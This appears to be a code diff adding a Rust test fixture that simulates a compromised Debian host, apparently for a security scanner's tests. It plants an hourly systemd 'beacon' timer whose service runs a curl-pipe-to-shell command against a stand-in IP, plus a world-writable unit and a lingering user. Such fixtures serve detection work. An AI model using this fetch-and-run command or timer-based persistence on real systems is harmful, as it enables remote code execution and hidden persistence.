@@ -153,3 +153,21 @@ pub fn parse_unit_files(out: &str) -> Vec<(String, String)> {
 pub fn our_unit_files(s: &Scope) -> Vec<(String, String)> {
     s.unit_files.iter().map(|(n, st)| (n.clone(), st.as_str().to_string())).collect()
 }
+
+/// A root with one critical payload timer, a world-writable unit and a lingering user.
+#[allow(dead_code)]
+pub fn planted() -> Fx {
+    let fx = Fx::new();
+    fx.debian_layout()
+        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
+        .file("/etc/systemd/system/beacon.timer", "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n")
+        .file(
+            "/etc/systemd/system/beacon.service",
+            "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/p | sh'\n",
+        )
+        .link("/etc/systemd/system/timers.target.wants/beacon.timer", "../beacon.timer")
+        .file("/etc/systemd/system/report.timer", "[Timer]\nOnCalendar=daily\n")
+        .mode("/etc/systemd/system/report.timer", 0o666)
+        .file("/var/lib/systemd/linger/alice", "");
+    fx
+}
